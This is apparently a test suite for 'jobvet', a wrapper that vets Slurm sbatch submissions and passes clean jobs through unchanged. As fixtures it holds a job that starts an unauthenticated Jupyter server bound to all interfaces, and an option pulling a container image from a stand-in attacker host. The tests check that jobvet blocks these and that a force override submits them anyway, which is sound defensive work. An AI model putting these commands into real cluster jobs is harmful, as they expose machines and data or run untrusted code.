// `jobvet sbatch`, with the real sbatch behind it.
import { mkdirSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { Cluster, type Submission, whyNoCluster } from './cluster.ts';

const reason = whyNoCluster();
if (reason !== null) process.stderr.write(`skipped, no Slurm to submit to: ${reason}\n`);

const PROGRAM = fileURLToPath(new URL('../../dist/cli.js', import.meta.url));
const OPEN = "#!/bin/bash\n#SBATCH --time=1\njupyter lab --ip=0.0.0.0 --ServerApp.token=''\n";
const HONEST = '#!/bin/bash\n#SBATCH --time=1\nhostname\n';

describe.skipIf(reason !== null)('jobvet sbatch', () => {
  let cluster: Cluster;
  let folder: string;

  beforeAll(async () => {
    cluster = await Cluster.start();
    folder = dirname(cluster.put('honest.sh', HONEST));
    cluster.put('open.sh', OPEN);
    mkdirSync(join(folder, 'sub'));
    writeFileSync(join(folder, 'sub', 'honest.sh'), OPEN, { mode: 0o755 });
    cluster.put('jobvet.yaml', 'root: true\n');
  }, 60_000);

  afterAll(async () => {
    await cluster.stop();
  }, 30_000);

  const submit = (args: readonly string[], input = ''): Submission =>
    cluster.submit(process.execPath, [PROGRAM, 'sbatch', ...args], input);
  const show = (run: Submission): { script: string; job: string } => {
    const id = /\d+/.exec(run.stdout)?.[0] ?? '0';
    const script = cluster.submit('scontrol', ['write', 'batch_script', id, '-']).stdout;
    return { script, job: cluster.submit('scontrol', ['show', 'job', id]).stdout };
  };

  it('says nothing about honest jobs and leaves everything to sbatch', () => {
    const run = submit(['--hold', '-J', 'name', 'honest.sh', 'a', '-n7']);
    expect(run).toMatchObject({ exit: 0, stderr: '' });
    expect(run.stdout).toMatch(/^Submitted batch job \d+\n$/);
    expect(show(run).job).toContain(`Command=${join(folder, 'honest.sh')} a -n7`);
    expect(show(run).job).toContain('JobName=name');
    expect(show(run).script.trim()).toBe(HONEST.trim());
    expect(submit(['--parsable', 'honest.sh']).stdout).toMatch(/^\d+\n$/);
  });

  it.each<[string, readonly string[], string]>([
    ['a file', ['open.sh'], 'line 3: '],
    ['a file behind options', ['-n1', '--job-nam', 'x', '--', 'open.sh', 'a'], 'line 3: '],
    ['a file in --chdir', ['-D', 'sub', 'honest.sh'], 'line 3: '],
    ['a later component', ['-n1', ':', '-n1', 'open.sh'], 'line 3: '],
    ['--wrap', ['--wrap', "jupyter lab --ip=0.0.0.0 --ServerApp.token=''"], '--wrap, line 4: '],
    ['an abbreviation', ['--wra', "jupyter lab --ip=0.0.0.0 --ServerApp.token=''"], '--wrap, line 4: '],
    ['standard input', [], 'standard input, line 3: '],
  ])('refuses before sbatch sees it: %s', (_, args, place) => {
    const { exit, stdout, stderr } = submit(args, OPEN);
    expect(stderr).toContain('jobvet: job not accepted. Nothing queued, nothing charged.  [JV-');
    expect(stderr).toContain(`\n${place}`);
    expect({ exit, stdout }).toEqual({ exit: 1, stdout: '' });
  });

  it('hands standard input on as it was', () => {
    const text = `${HONEST}# caf\u00e9\n`;
    const run = submit(['--hold'], text);
    expect(run).toMatchObject({ exit: 0, stderr: '' });
    expect(show(run).script.trim()).toBe(text.trim());
  });

  it('vets options that stand in no script', () => {
    const { exit, stderr } = submit(['--container-image', 'http://evil.example/x.sqsh', 'open.sh']);
    expect(stderr).toContain('jobvet:');
    expect(exit).toBe(1);
  });

  it('submits all the same when it is told to', () => {
    const args = ['JOBVET_FORCE=1', process.execPath, PROGRAM, 'sbatch', '--hold', 'open.sh'];
    const { exit, stdout, stderr } = cluster.submit('env', args);
    expect({ exit, stdout }).toEqual({
      exit: 0,
      stdout: expect.stringMatching(/^Submitted batch job \d+\n$/) as string,
    });
    expect(stderr).toContain('JOBVET_FORCE is set');
  });

  it.each<[readonly string[]]>([[['--version']], [['--usage']], [['--time=never', 'honest.sh']], [['honest.sh', '']]])(
    'ends as sbatch does: %j',
    (args) => {
      const { stdout: _, ...wanted } = cluster.submit('sbatch', args);
      expect(submit(args)).toMatchObject(wanted);
    },
  );

  it('asks where the script is when an option is not known', () => {
    const { exit, stderr } = submit(['--our-plugin', 'honest.sh']);
    expect(stderr).toContain('put -- before the script');
    expect(exit).toBe(2);
    // With the dashes it is sbatch that refuses the option.
    expect(submit(['--our-plugin', '--', 'honest.sh']).stderr).toContain('unrecognized option');
    expect(submit(['--our-plugin=x', 'open.sh']).stderr).toContain('job not accepted');
  });

  it('does not call a script that calls jobvet', () => {
    mkdirSync(join(folder, 'bin'));
    writeFileSync(join(folder, 'bin', 'sbatch'), '#!/bin/sh\nexec jobvet sbatch "$@"\n', { mode: 0o755 });
    const path = `PATH=${join(folder, 'bin')}:${process.env['PATH'] ?? ''}`;
    const run = cluster.submit('env', [path, process.execPath, PROGRAM, 'sbatch', 'honest.sh']);
    expect(run).toMatchObject({ exit: 0, stderr: '' });
  });

  it('has help', () => {
    expect(submit(['--help']).stdout).toContain('JOBVET_FORCE=1');
  });
});
